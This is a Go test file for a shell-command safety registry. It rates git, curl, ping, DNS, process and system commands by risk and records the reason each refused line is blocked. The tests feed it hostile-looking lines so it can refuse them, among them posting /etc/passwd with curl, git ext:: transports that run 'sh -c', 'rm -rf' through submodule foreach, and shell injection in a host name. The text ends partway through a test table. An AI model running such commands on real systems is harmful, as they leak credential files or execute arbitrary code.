package registry

import (
	"strings"
	"testing"

	"github.com/oterminus/oterminus/internal/shlex"
)

// sysCase is one typed line for a system, process, network or git family:
// its canonical rendering, risk, changed paths and warnings, or the
// refusal and the risk its words still carry.
type sysCase struct {
	line    string
	argv    string // canonical rendering; "" when refused
	risk    Risk
	changed []string
	// reason is a refusal's reason (a string) or what it is and where (a
	// grammarFault), or a warning an accepted line must carry.
	reason any
}

func runSysCases(t *testing.T, cases []sysCase) {
	t.Helper()
	for _, c := range cases {
		f := Default().ForProgram(strings.Fields(c.line)[0])
		if f == nil || f.Spec == nil {
			t.Fatalf("%q: no declared family", c.line)
		}
		d := declCase{line: c.line, argv: c.argv, risk: c.risk, changed: c.changed}
		switch r := c.reason.(type) {
		case grammarFault:
			d.fault = r
		case string:
			if c.argv != "" {
				d.warns = r
			} else {
				d.reason = r
			}
		}
		checkDeclCase(t, f, d)
	}
}

func TestGit(t *testing.T) {
	runSysCases(t, []sysCase{
		{"git status --short", "git status --short", Safe, nil, ""},
		{"git status -sb", "git status -sb", Safe, nil, ""},
		{"git status --untracked-files=no src", "git status --untracked-files=no src", Safe, nil, ""},
		{"git status -vv --show-stash", "git status -vv --show-stash", Safe, nil, ""},
		{"git branch --show-current", "git branch --show-current", Safe, nil, ""},
		{"git branch -a --contains HEAD~1", "git branch -a --contains HEAD~1", Safe, nil, ""},
		{"git log --oneline -n 5", "git log --oneline -n 5", Safe, nil, ""},
		{"git log -5 --oneline", "git log -5 --oneline", Safe, nil, ""},
		{"git log --oneline --decorate --all --graph", "git log --oneline --decorate --all --graph", Safe, nil, ""},
		{"git log -i --grep TODO", "git log -i --grep TODO", Safe, nil, ""},
		{"git log -n 5 --author 'Ann Lee'", "git log -n 5 --author Ann Lee", Safe, nil, ""},
		{"git log --before 2017-01-29 --after 2017-01-17", "git log --before 2017-01-29 --after 2017-01-17", Safe, nil, ""},
		{"git log -p src", "git log -p src", Safe, nil, ""},
		{"git log --stat -- README.md", "git log --stat -- README.md", Safe, nil, ""},
		{"git diff --stat HEAD~1", "git diff --stat HEAD~1", Safe, nil, ""},
		{"git diff --staged", "git diff --staged", Safe, nil, ""},
		{"git diff --name-only main..topic", "git diff --name-only main..topic", Safe, nil, ""},
		{"git diff --word-diff=color", "git diff --word-diff=color", Safe, nil, ""},
		{"git show --oneline -s HEAD~1", "git show --oneline -s HEAD~1", Safe, nil, ""},
		{"git show HEAD~1:notes.txt", "git show HEAD~1:notes.txt", Safe, nil, ""},
		{"git remote -v", "git remote -v", Safe, nil, ""},
		{"git rev-parse --abbrev-ref HEAD", "git rev-parse --abbrev-ref HEAD", Safe, nil, ""},
		{"git rev-parse --show-toplevel", "git rev-parse --show-toplevel", Safe, nil, ""},
		{"git blame -L 5,5 notes.txt", "git blame -L 5,5 notes.txt", Safe, nil, ""},
		{"git blame HEAD~1 notes.txt", "git blame HEAD~1 notes.txt", Safe, nil, ""},
		// Changes are declared with their risk: writes, and dangerous
		// where uncommitted work or shared history is lost.
		// commit runs the repository's hooks: dangerous, as the original had it.
		{"git commit -m x", "git commit -m x", Dangerous, nil, ""},
		{"git commit -a --amend --no-edit", "git commit -a --amend --no-edit", Dangerous, nil, ""},
		{"git add -A", "git add -A", Write, nil, ""},
		{"git add -p notes.txt", "git add -p notes.txt", Write, nil, ""},
		{"git push", "git push", Write, nil, ""},
		{"git push -u origin main", "git push -u origin main", Write, nil, ""},
		{"git push --force origin main", "git push --force origin main", Dangerous, nil, "overwrite commits on the remote"},
		{"git push origin :old", "git push origin :old", Dangerous, nil, "overwrite commits on the remote"},
		{"git push origin +main", "git push origin +main", Dangerous, nil, ""},
		{"git fetch --all -p", "git fetch --all -p", Write, nil, ""},
		{"git pull --rebase origin main", "git pull --rebase origin main", Write, nil, ""},
		{"git clone https://example.com/r.git src", "git clone https://example.com/r.git src", Write, []string{"src"}, ""},
		{"git clone --depth 1 https://example.com/r.git", "git clone --depth 1 https://example.com/r.git", Write, []string{"."}, ""},
		{"git init", "git init", Write, []string{"."}, ""},
		{"git switch -c topic", "git switch -c topic", Write, nil, ""},
		{"git switch -", "git switch -", Write, nil, ""},
		{"git switch --discard-changes main", "git switch --discard-changes main", Dangerous, nil, "discards uncommitted changes"},
		{"git checkout -b topic main", "git checkout -b topic main", Write, nil, ""},
		{"git checkout main", "git checkout main", Dangerous, nil, "switches to the branch main if there is one, and otherwise overwrites the file main"},
		{"git checkout -- notes.txt", "git checkout -- notes.txt", Dangerous, nil, ""},
		{"git restore -S notes.txt", "git restore -S notes.txt", Dangerous, []string{"notes.txt"}, ""},
		{"git reset", "git reset", Write, nil, ""},
		{"git reset --soft HEAD~2", "git reset --soft HEAD~2", Write, nil, ""},
		{"git reset --hard", "git reset --hard", Dangerous, nil, "discards uncommitted changes"},
		{"git clean -n", "git clean -n", Safe, nil, ""},
		{"git clean -n -d -x", "git clean -n -d -x", Safe, nil, ""},
		{"git clean -f", "git clean -f", Dangerous, []string{"."}, "git clean removes untracked files"},
		{"git clean -fd src", "git clean -fd src", Dangerous, []string{"src"}, ""},
		{"git stash", "git stash", Write, nil, ""},
		{"git stash list", "git stash list", Safe, nil, ""},
		{"git stash show -p", "git stash show -p", Safe, nil, ""},
		{"git stash pop", "git stash pop", Write, nil, ""},
		{"git stash -u", "git stash -u", Write, nil, ""},
		{"git stash drop", "git stash drop", Dangerous, nil, "delete stashed changes"},
		{"git stash clear", "git stash clear", Dangerous, nil, ""},
		{"git tag", "git tag", Safe, nil, ""},
		{"git tag -l 'v1.*'", "git tag -l v1.*", Safe, nil, ""},
		{"git tag --contains HEAD~1", "git tag --contains HEAD~1", Safe, nil, ""},
		{"git tag v1.0 HEAD~1", "git tag v1.0 HEAD~1", Write, nil, ""},
		{"git tag -d v1.0", "git tag -d v1.0", Write, nil, ""},
		{"git branch main", "git branch main", Write, nil, ""},
		{"git branch -d topic", "git branch -d topic", Write, nil, ""},
		{"git branch -D main", "git branch -D main", Dangerous, nil, ""},
		{"git branch -m old new", "git branch -m old new", Write, nil, ""},
		{"git rm --cached notes.txt", "git rm --cached notes.txt", Write, nil, ""},
		{"git rm notes.txt", "git rm notes.txt", Write, []string{"notes.txt"}, ""},
		{"git mv a.txt b.txt", "git mv a.txt b.txt", Write, []string{"a.txt", "b.txt"}, ""},
		{"git config --global user.name 'Ann Lee'", "git config --global user.name Ann Lee", Write, nil, ""},
		{"git config --list --show-origin", "git config --list --show-origin", Safe, nil, ""},
		{"git config -l", "git config -l", Safe, nil, ""},
		{"git config --get user.email", "git config --get user.email", Safe, nil, ""},
		{"git config user.name", "git config user.name", Safe, nil, ""},
		{"git config core.fsmonitor id", "git config core.fsmonitor id", Dangerous, nil, "names a program git runs"},
		{"git config --global alias.st '!sh x'", "git config --global alias.st !sh x", Dangerous, nil, "runs a shell command"},
		{"git config --global --unset alias.st", "git config --global --unset alias.st", Write, nil, ""},
		{"git show-branch -a", "git show-branch -a", Safe, nil, ""},
		{"git for-each-ref --format '%(refname:short)' refs/heads/", "git for-each-ref --format %(refname:short) refs/heads/", Safe, nil, ""},
		{"git shortlog -sn", "git shortlog -sn", Safe, nil, ""},
		{"git describe --tags --abbrev 0", "git describe --tags --abbrev 0", Safe, nil, ""},
		{"git ls-files -o --exclude-standard", "git ls-files -o --exclude-standard", Safe, nil, ""},
		{"git ls-tree -r --name-only HEAD", "git ls-tree -r --name-only HEAD", Safe, nil, ""},
		{"git grep -n TODO -- src", "git grep -n TODO -- src", Safe, nil, ""},
		{"git reflog -n 5", "git reflog -n 5", Safe, nil, ""},
		{"git worktree list", "git worktree list", Safe, nil, ""},
		{"git cat-file -p HEAD", "git cat-file -p HEAD", Safe, nil, ""},
		{"git ls-remote origin", "git ls-remote origin", Safe, nil, ""},
		{"git merge --no-ff topic", "git merge --no-ff topic", Write, nil, ""},
		{"git rebase -i HEAD~3", "git rebase -i HEAD~3", Write, nil, ""},
		{"git cherry-pick HEAD~1", "git cherry-pick HEAD~1", Write, nil, ""},
		{"git revert --no-edit HEAD", "git revert --no-edit HEAD", Write, nil, ""},
		{"git remote add origin https://example.com", "git remote add origin https://example.com", Write, nil, ""},
		{"git remote get-url --push origin", "git remote get-url --push origin", Safe, nil, ""},
		{"git remote rename old new", "git remote rename old new", Write, nil, ""},
		{"git archive -v -o file.zip HEAD", "git archive -v -o file.zip HEAD", Write, []string{"file.zip"}, ""},
		{"git archive --format zip --prefix p/ HEAD:src", "git archive --format zip --prefix p/ HEAD:src", Safe, nil, ""},
		// Refused: programs git would run, and what is not declared.
		{"git remote frobnicate origin", "", Safe, nil, "Subcommand 'git remote frobnicate' is not supported"},
		{"git remote add evil 'ext::sh -c id'", "", Write, nil, "uses a transport that runs a program"},
		{"git archive --remote origin HEAD", "", Safe, nil, fault(UnknownOption, 2)},
		{"git rebase --exec 'make' main", "", Write, nil, fault(UnknownOption, 2)},
		{"git clone --upload-pack 'touch x' r", "", Write, nil, fault(UnknownOption, 2)},
		{"git clone ext::sh", "", Write, nil, "uses a transport that runs a program"},
		{"git fetch 'ext::sh -c x'", "", Write, nil, "uses a transport that runs a program"},
		{"git clone https://alice:pa55word@example.com/r.git", "", Write, nil, "REPOSITORY carries a password"},
		{"git clone https://alice@example.com/r.git", "git clone https://alice@example.com/r.git", Write, []string{"."}, ""},
		{"git reflog expire --all", "", Safe, nil, fault(UnknownOption, 3)},
		{"git reflog delete HEAD@{1}", "", Safe, nil, "'delete' changes the repository"},
		{"git worktree add ../x main extra", "", Write, nil, fault(TooManyOperands, 5)},
		{"git worktree remove", "", Write, nil, fault(MissingRequired, -1)},
		{"git stash frobnicate", "", Safe, nil, "ACTION must be one of list, show"},
		{"git cat-file HEAD", "", Safe, nil, fault(MissingRequired, -1)},
		{"git bisect run make test", "", Dangerous, nil, "'git bisect run' is refused: it runs a program of your choosing"},
		{"git submodule foreach 'rm -rf x'", "", Dangerous, nil, "'git submodule foreach' is refused: it runs a shell command"},
		{"git bulk --all", "", Safe, nil, "Subcommand 'git bulk' is not supported"},
		{"git fame", "", Safe, nil, "Subcommand 'git fame' is not supported"},
		// Global options and programs git would run.
		{"git -c core.pager=id log", "", Safe, nil, "Subcommand 'git -c' is not supported"},
		{"git -C / status", "", Safe, nil, "Subcommand 'git -C' is not supported"},
		{"git --git-dir=/tmp/x status", "", Safe, nil, "Subcommand 'git --git-dir=/tmp/x' is not supported"},
		{"git diff --output=x", "", Safe, nil, fault(UnknownOption, 2)},
		{"git diff --ext-diff", "", Safe, nil, fault(UnknownOption, 2)},
		{"git log --textconv -p", "", Safe, nil, fault(UnknownOption, 2)},
		{"git status -uno", "", Safe, nil, fault(UnknownOption, 2)},
		{"git blame", "", Safe, nil, "requires [REVISION] FILE"},
		{"git blame -- -x", "", Safe, nil, "FILE cannot start with '-'"},
		{"git", "", Safe, nil, "needs a subcommand"},
	})
}

// git's subcommands that reach another host say so; the rest do not.
func TestGitNetwork(t *testing.T) {
	for line, want := range map[string]bool{
		"git push": true, "git fetch": true, "git pull": true, "git clone r": true, "git ls-remote": true,
		"git status": false, "git add -A": false, "git log": false,
	} {
		argv, _ := shlex.Split(line)
		cmd, err := Default().Family("git").ReadArgv(argv)
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if cmd.Network() != want {
			t.Errorf("%q: network %v, want %v", line, cmd.Network(), want)
		}
	}
}

func TestCurl(t *testing.T) {
	runSysCases(t, []sysCase{
		{"curl -I https://example.com", "curl -I https://example.com", Safe, nil, ""},
		{"curl https://example.com", "curl https://example.com", Safe, nil, ""},
		{"curl -sSL --max-time 10 https://example.com/a?b=1", "curl -sSL --max-time 10 https://example.com/a?b=1", Safe, nil, ""},
		{"curl https://example.com -v", "curl https://example.com -v", Safe, nil, ""},
		{"curl -k https://example.com", "curl -k https://example.com", Safe, nil, "turns off TLS certificate checks"},
		{"curl -A 'test agent' http://example.com", "curl -A test agent http://example.com", Safe, nil, ""},
		// Network diagnostics are read-only (as in the original): saving
		// what a server answers to a file is a download, refused.
		{"curl -o out https://example.com", "", Safe, nil, "The value of -o names a file: saving what the server answers there is a download, outside network diagnostics"},
		{"curl -L --output=page.html https://example.com", "", Safe, nil, "The value of --output names a file: saving what the server answers there is a download"},
		{"curl -o - https://example.com", "curl -o - https://example.com", Safe, nil, ""},
		{"curl -O https://example.com/filename.zip", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -sSLO https://example.com/a.tgz", "", Safe, nil, "Option '-O' for 'curl' is refused: it downloads to a file"},
		{"curl --remote-name-all https://example.com/a.tgz", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -D h.txt https://example.com/a.tgz", "", Safe, nil, "The value of -D names a file: saving what the server answers there is a download"},
		{"curl -L -D - https://example.com", "curl -L -D - https://example.com", Safe, nil, ""},
		{"curl -D headers.txt https://example.com", "", Safe, nil, "The value of -D names a file: saving what the server answers there is a download"},
		{"curl -X GET https://example.com", "curl -X GET https://example.com", Safe, nil, ""},
		{"curl --request=HEAD https://example.com", "curl --request=HEAD https://example.com", Safe, nil, ""},
		{"curl -X POST https://example.com", "", Safe, nil, "The value of -X cannot be POST: it changes data on the server, which nothing here can check; only GET, HEAD and OPTIONS are supported (command 'curl')."},
		{"curl -X DELETE https://example.com/r/1", "", Safe, nil, "The value of -X cannot be DELETE: it changes data on the server"},
		{"curl -XPUT https://example.com/r/1", "", Safe, nil, "The value of -X cannot be PUT"},
		{"curl --request=patch https://example.com/r/1", "", Safe, nil, "The value of --request cannot be patch"},
		{"curl -X TRACE https://example.com", "", Safe, nil, "The value of -X must be one of GET, HEAD, OPTIONS"},
		{"curl -d @/etc/passwd https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -X POST -d 'name=bob' http://example.com/form", "", Safe, nil, "The value of -X cannot be POST"},
		{"curl --data-raw x https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -sF a=@b https://example.com", "", Safe, nil, "Option '-F' for 'curl' is refused: it sends a request body"},
		// Headers ask for a form of the answer; secret-bearing and
		// arbitrary ones are refused, as are cookies (-b).
		{"curl -H 'Accept: application/json' https://example.com", "curl -H Accept: application/json https://example.com", Safe, nil, ""},
		{"curl -H 'accept-language: fr' -H 'Range: bytes=0-99' https://example.com", "curl -H accept-language: fr -H Range: bytes=0-99 https://example.com", Safe, nil, ""},
		{"curl -H 'X-Token: t' https://example.com", "", Safe, nil, "The value of -H is the header X-Token, which carries a credential or session"},
		{"curl -H 'X-Api-Key: 1' https://example.com", "", Safe, nil, "The value of -H is the header X-Api-Key, which carries a credential or session"},
		{"curl -H 'Cookie: session=abc' https://example.com", "", Safe, nil, "The value of -H is the header Cookie, which carries a credential or session"},
		{"curl -H 'Proxy-Authorization: Basic x' https://example.com", "", Safe, nil, "The value of -H is the header Proxy-Authorization, which carries"},
		{"curl -H 'X-Forwarded-For: 1.2.3.4' https://example.com", "", Safe, nil, "The value of -H is the header X-Forwarded-For: network diagnostics send only headers that ask for a form of the answer"},
		{"curl -b session=abc https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl --cookie session=abc https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl --oauth2-bearer t https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -k -x http://127.0.0.1:8080 -H 'Authorization: Bearer token' -X GET https://example.com",
			"", Safe, nil, "The value of -H is the header Authorization, which carries a credential or session"},
		{"curl --proxy socks5h://proxy.example:1080 https://example.com", "curl --proxy socks5h://proxy.example:1080 https://example.com", Safe, nil, ""},
		{"curl -x 127.0.0.1:3128 https://example.com", "curl -x 127.0.0.1:3128 https://example.com", Safe, nil, ""},
		{"curl -x http://u:p@proxy.example:8080 https://example.com", "", Safe, nil, "cannot contain a user name or password"},
		{"curl -x ftp://proxy.example https://example.com", "", Safe, nil, "must be an http://, https:// or socks proxy"},
		{"curl -H @headers.txt https://example.com", "", Safe, nil, "cannot start with '@': curl would read the headers from that file"},
		{"curl -E client.pem --key key.pem -k https://example.com", "curl -E client.pem --key key.pem -k https://example.com", Safe, nil, ""},
		{"curl -E client.pem:secret https://example.com", "", Safe, nil, "cannot contain ':'"},
		{"curl -v --resolve example.com:80:127.0.0.1 http://example.com", "curl -v --resolve example.com:80:127.0.0.1 http://example.com", Safe, nil, ""},
		{"curl --resolve example.com:x:127.0.0.1 http://example.com", "", Safe, nil, "must be HOST:PORT:ADDRESS"},
		{"curl -s -w '%{http_code}\\n' -o /dev/null https://example.com", "curl -s -w %{http_code}\\n -o /dev/null https://example.com", Safe, nil, ""},
		{"curl -sD /dev/null -o /dev/null https://example.com", "curl -sD /dev/null -o /dev/null https://example.com", Safe, nil, ""},
		{"curl -w @fmt.txt https://example.com", "", Safe, nil, "cannot start with '@'"},
		{"curl -w '%output{evil}x' https://example.com", "", Safe, nil, "cannot contain %output{...}"},
		{"curl -J -O https://example.com/x", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -c jar https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -K cfg https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl -u u:p https://example.com", "", Safe, nil, fault(RefusedOption, 1)},
		{"curl --help", "curl --help", Safe, nil, ""},
		{"curl --version", "curl --version", Safe, nil, ""},
		{"curl --help https://example.com", "", Safe, nil, "Option '--help' for 'curl' is supported only alone ('curl --help')"},
		{"curl 'https://example.com/[1-100000]'", "", Safe, nil, "cannot contain [ ] { }"},
		{"curl 'https://example.com/{a,b}'", "", Safe, nil, "cannot contain [ ] { }"},
		{"curl file:///etc/passwd", "", Safe, nil, "must be an http:// or https:// URL"},
		{"curl https://user:pw@example.com", "", Safe, nil, "cannot contain a user name or password"},
		{"curl --max-time 1m https://example.com", "", Safe, nil, "must be a whole number"},
		{"curl -sI", "", Safe, nil, fault(MissingRequired, -1)},
	})
}

func TestPing(t *testing.T) {
	runSysCases(t, []sysCase{
		{"ping -c 4 example.com", "ping -c 4 example.com", Safe, nil, ""},
		{"ping example.com -c 2", "ping example.com -c 2", Safe, nil, ""},
		{"ping -c10 10.0.0.1", "ping -c10 10.0.0.1", Safe, nil, ""},
		{"ping example.com", "", Safe, nil, "Command 'ping' needs -c or -w: without a count or a deadline it never ends."},
		{"ping -i 5 example.com", "", Safe, nil, "Command 'ping' needs -c or -w"},
		{"ping -w 10 example.com", "ping -w 10 example.com", Safe, nil, ""},
		{"ping -c 5 -W 5 -w 5 example.com", "ping -c 5 -W 5 -w 5 example.com", Safe, nil, ""},
		{"ping -c 3 -i 0.2 -n -a -O -q -D example.com", "ping -c 3 -i 0.2 -n -a -O -q -D example.com", Safe, nil, ""},
		{"ping -naO -c 2 10.0.0.1", "ping -naO -c 2 10.0.0.1", Safe, nil, ""},
		{"ping -4 -c 1 example.com", "ping -4 -c 1 example.com", Safe, nil, ""},
		{"ping -6 -c 2 ff02::1%eth0", "ping -6 -c 2 ff02::1%eth0", Safe, nil, ""},
		{"ping -6 -w 3 fe80::1%wlp2s0", "ping -6 -w 3 fe80::1%wlp2s0", Safe, nil, ""},
		{"ping -c 2 10.0.0.1%eth0", "", Safe, nil, "HOST must be a valid host name or IP address"},
		{"ping -c 2 'ff02::1%eth0 x'", "", Safe, nil, "HOST cannot contain whitespace"},
		{"ping -w 86400 example.com", "", Safe, nil, "The value of -w must be a whole number of seconds from 1 to 3600"},
		{"ping -w 0 example.com", "", Safe, nil, "from 1 to 3600"},
		{"ping -c 2 -i 1m example.com", "", Safe, nil, "The value of -i must be a number of seconds such as 5 or 0.5"},
		{"ping -w 60 -i 0.01 example.com", "", Safe, nil, "The value of -i must be at least 0.2 seconds (less floods the host)"},
		{"ping -w 60 -i 0 example.com", "", Safe, nil, "must be at least 0.2 seconds"},
		{"ping -c 2 -W -1 example.com", "", Safe, nil, "The value of -W must be a number of seconds"},
		{"ping -c 1000 example.com", "", Safe, nil, "The value of -c must be one of 1, 2, 3"},
		{"ping -f example.com", "", Safe, nil, fault(UnknownOption, 1)},
		{"ping -c 2 -l 3 example.com", "", Safe, nil, fault(UnknownOption, 3)},
		{"ping -c 2 'example.com;id'", "", Safe, nil, "HOST cannot contain whitespace, shell operators or substitutions"},
		{"ping -c 2 http://example.com", "", Safe, nil, "not a URL or path"},
		{"ping -c 2 a b", "", Safe, nil, fault(TooManyOperands, 4)},
	})
}

func TestDNS(t *testing.T) {
	runSysCases(t, []sysCase{
		{"dig example.com", "dig example.com", Safe, nil, ""},
		{"dig +short example.com", "dig +short example.com", Safe, nil, ""},
		{"dig +short example.com A", "dig +short example.com A", Safe, nil, ""},
		{"dig +noall +answer example.com MX", "dig +noall +answer example.com MX", Safe, nil, ""},
		{"dig -x 8.8.8.8", "dig -x 8.8.8.8", Safe, nil, ""},
		{"dig -t TXT example.com", "dig -t TXT example.com", Safe, nil, ""},
		{"dig +trace example.com", "dig +trace example.com", Safe, nil, ""},
		{"dig example.com AXFR", "dig example.com AXFR", Dangerous, nil, "zone transfer"},
		{"dig -t AXFR example.com", "", Safe, nil, "The value of -t cannot be AXFR: a zone transfer asks the server for every record of the zone"},
		{"dig -t BOGUS example.com", "", Safe, nil, "The value of -t must be one of"},
		{"dig -f /etc/passwd", "", Safe, nil, fault(UnknownOption, 1)},
		{"dig -k key example.com", "", Safe, nil, fault(UnknownOption, 1)},
		{"dig +tls @1.1.1.1 example.com", "dig +tls @1.1.1.1 example.com", Safe, nil, ""},
		{"dig +tcp -p 8080 @192.0.2.53 example.com", "dig +tcp -p 8080 @192.0.2.53 example.com", Safe, nil, ""},
		{"dig @ns1.example.com example.com +nsid +noall +answer", "dig @ns1.example.com example.com +nsid +noall +answer", Safe, nil, ""},
		{"dig @dns_server_ip example.com", "", Safe, nil, "NAME (the server after @) must be a valid host name or IP address"},
		{"dig @ example.com", "", Safe, nil, "NAME (the server after @) must be a valid host name or IP address"},
		{"dig -p http example.com", "", Safe, nil, "The value of -p must be a whole number"},
		{"dig +time=2 example.com", "", Safe, nil, "NAME must be a valid host name or IP address"},
		{"dig +foo example.com", "", Safe, nil, "NAME must be a valid host name or IP address"},
		{"dig http://example.com", "", Safe, nil, "not a URL or path"},
		{"nslookup example.com", "nslookup example.com", Safe, nil, ""},
		{"nslookup example.com 8.8.8.8", "nslookup example.com 8.8.8.8", Safe, nil, ""},
		{"nslookup 54.240.162.118", "nslookup 54.240.162.118", Safe, nil, ""},
		{"nslookup -", "", Safe, nil, "NAME cannot start with '-'"},
		{"nslookup -type=MX example.com", "nslookup -type=MX example.com", Safe, nil, ""},
		{"nslookup -type=NS example.com 8.8.8.8", "nslookup -type=NS example.com 8.8.8.8", Safe, nil, ""},
		{"nslookup -query=ptr 54.240.162.118", "nslookup -query=ptr 54.240.162.118", Safe, nil, ""},
		{"nslookup -vc -type=ANY example.com", "nslookup -vc -type=ANY example.com", Safe, nil, ""},
		{"nslookup -type=MX -debug example.com", "nslookup -type=MX -debug example.com", Safe, nil, ""},
		{"nslookup -port=8080 -type=TXT example.com 192.0.2.53", "nslookup -port=8080 -type=TXT example.com 192.0.2.53", Safe, nil, ""},
		{"nslookup example.com -timeout=5 -retry=2 -norecurse", "nslookup example.com -timeout=5 -retry=2 -norecurse", Safe, nil, ""},
		{"nslookup -vc -type=AXFR example.com ns1.example.com", "", Safe, nil, "The value of -type cannot be AXFR: a zone transfer"},
		{"nslookup -query=ixfr example.com", "", Safe, nil, "The value of -query cannot be ixfr"},
		{"nslookup -type=BOGUS example.com", "", Safe, nil, "The value of -type must be one of A, AAAA"},
		{"nslookup -type MX example.com", "", Safe, nil, "Option '-type' for 'nslookup' takes its value after '=' (-type=CHOICE)."},
		{"nslookup -port=x example.com", "", Safe, nil, "The value of -port must be a whole number"},
		{"nslookup -vc=1 example.com", "", Safe, nil, fault(BadValue, 1)},
		{"nslookup -ty=MX example.com", "", Safe, nil, fault(UnknownOption, 1)},
		{"nslookup example.com name_server", "", Safe, nil, "SERVER must be a valid host name or IP address"},
		{"nslookup a b c", "", Safe, nil, fault(TooManyOperands, 3)},
	})
}

func TestProcesses(t *testing.T) {
	runSysCases(t, []sysCase{
		{"ps aux", "ps aux", Safe, nil, ""},
		{"ps auxww", "ps auxww", Safe, nil, ""},
		{"ps -Af", "ps -Af", Safe, nil, ""},
		{"ps -ef", "", Safe, nil, fault(UnknownOption, 1)}, // the argument object reads it as -A -f
		{"ps -A -f -u alice -p 42", "ps -A -f -u alice -p 42", Safe, nil, ""},
		{"ps -o ppid= -p 1234", "ps -o ppid= -p 1234", Safe, nil, ""},
		{"ps -A --sort=-%mem --forest", "ps -A --sort=-%mem --forest", Safe, nil, ""},
		{"ps -L -p 1234", "ps -L -p 1234", Safe, nil, ""},
		{"ps e", "", Safe, nil, fault(TooManyOperands, 1)},
		{"ps auxe", "", Safe, nil, fault(TooManyOperands, 1)},
		{"ps -u $(id -u) f", "", Safe, nil, "The value of -u must be a user or group name"},
		{"ps k size", "", Safe, nil, fault(TooManyOperands, 1)},
		{"ps -p 1,2", "", Safe, nil, "must be a whole number"},
		{"pgrep -f python", "pgrep -f python", Safe, nil, ""},
		{"pgrep -fl 'process_name'", "pgrep -fl process_name", Safe, nil, ""},
		{"pgrep -u alice sshd", "pgrep -u alice sshd", Safe, nil, ""},
		{"pgrep -n -x firefox", "pgrep -n -x firefox", Safe, nil, ""},
		{"pgrep -a 'py.*n'", "pgrep -a py.*n", Safe, nil, ""},
		{"pgrep -u alice", "pgrep -u alice", Safe, nil, ""},
		{"pgrep -F pidfile", "", Safe, nil, fault(UnknownOption, 1)},
		{"pgrep a b", "", Safe, nil, fault(TooManyOperands, 2)},
		{"lsof notes.txt", "lsof notes.txt", Safe, nil, ""},
		{"lsof -i :8080", "lsof -i :8080", Safe, nil, ""},
		{"lsof -iTCP:8080 -n -P", "lsof -iTCP:8080 -n -P", Safe, nil, ""},
		{"lsof -t notes.txt", "lsof -t notes.txt", Safe, nil, ""},
		{"lsof -u alice -c ssh -a", "lsof -u alice -c ssh -a", Safe, nil, ""},
		{"lsof -p 1234", "lsof -p 1234", Safe, nil, ""},
		{"lsof -a -n -P -p 7 -c x src", "lsof -a -n -P -p 7 -c x src", Safe, nil, ""},
		{"lsof +D src", "lsof +D src", Safe, nil, ""},
		{"lsof +d /var/log -t", "lsof +d /var/log -t", Safe, nil, ""},
		{"lsof -i6TCP:8080 -sTCP:LISTEN -n -P", "lsof -i6TCP:8080 -sTCP:LISTEN -n -P", Safe, nil, ""},
		{"lsof -iTCP -sTCP:^LISTEN,ESTABLISHED", "lsof -iTCP -sTCP:^LISTEN,ESTABLISHED", Safe, nil, ""},
		{"lsof -s notes.txt", "lsof -s notes.txt", Safe, nil, ""},
		{"lsof -sTCP notes.txt", "", Safe, nil, "must be a protocol and states such as TCP:LISTEN"},
		{"lsof +D", "", Safe, nil, fault(MissingValue, 1)},
		{"lsof +L1", "", Safe, nil, "FILE cannot start with '+'"},
		{"lsof -r 1", "", Safe, nil, fault(UnknownOption, 1)},
		{"lsof -i", "", Safe, nil, fault(MissingValue, 1)},
		{"lsof http://example.com/x", "", Safe, nil, "must refer to a local filesystem target"},
	})
}

func TestSystemInspection(t *testing.T) {
	runSysCases(t, []sysCase{
		{"whoami", "whoami", Safe, nil, ""},
		{"whoami --help", "whoami --help", Safe, nil, ""},
		{"whoami --version", "whoami --version", Safe, nil, ""},
		{"whoami --help --version", "", Safe, nil, "Option '--help' for 'whoami' is supported only alone ('whoami --help')"},
		{"uname --help", "uname --help", Safe, nil, ""},
		{"uname --version", "uname --version", Safe, nil, ""},
		{"uname -a --help", "", Safe, nil, "Option '--help' for 'uname' is supported only alone"},
		{"man --help", "man --help", Safe, nil, ""},
		{"printenv --help", "printenv --help", Safe, nil, ""},
		{"whoami alice", "", Safe, nil, "takes no operands"},
		{"uname", "uname", Safe, nil, ""},
		{"uname -a", "uname -a", Safe, nil, ""},
		{"uname -srv", "uname -srv", Safe, nil, ""},
		{"uname --kernel-name --machine", "uname --kernel-name --machine", Safe, nil, ""},
		{"uname -x", "", Safe, nil, fault(UnknownOption, 1)},
		{"which -a python3 sh", "which -a python3 sh", Safe, nil, ""},
		{"which", "", Safe, nil, fault(MissingRequired, -1)},
		{"which -x sh", "", Safe, nil, fault(UnknownOption, 1)},
		{"clear", "clear", Safe, nil, ""},
		{"clear -x", "clear -x", Safe, nil, ""},
		{"clear -T vt100", "clear -T vt100", Safe, nil, ""},
		{"clear screen", "", Safe, nil, "takes no operands"},
		{"printenv HOME", "printenv HOME", Safe, nil, "may include secrets"},
		{"printenv FOO=bar", "printenv FOO=bar", Dangerous, nil, "is not a variable name"},
		{"env HOME", "", Dangerous, nil, "env runs the program named after it"},
		{"env FOO=bar", "", Dangerous, nil, "env runs the program named after it"},
		{"env ./evil.sh", "", Dangerous, nil, "env runs the program named after it"},
		{"env -i PATH=/tmp sh", "", Dangerous, nil, "env runs the program named after it"},
		{"env -u HOME ls", "", Dangerous, nil, "env runs the program named after it"},
		{"printenv -0 HOME", "printenv -0 HOME", Safe, nil, "may include secrets"},
		{"printenv --null PATH", "printenv --null PATH", Safe, nil, ""},
		{"printenv -0", "", Safe, nil, fault(MissingRequired, -1)},
		{"env --help", "", Dangerous, nil, "env runs the program named after it"},
		{"env", "", Safe, nil, "prints the whole environment"},
		{"printenv", "", Safe, nil, fault(MissingRequired, -1)},
		{"man ls", "man ls", Safe, nil, ""},
		{"man 5 crontab", "man 5 crontab", Safe, nil, ""},
		{"man -k printf", "man -k printf", Safe, nil, ""},
		{"man -f ls", "man -f ls", Safe, nil, ""},
		{"man -w ls", "man -w ls", Safe, nil, ""},
		{"man ls -a", "man ls -a", Safe, nil, ""},
		{"man -L de ls", "man -L de ls", Safe, nil, ""},
		{"man ./evil.1", "man ./evil.1", Dangerous, nil, "as a file to format"},
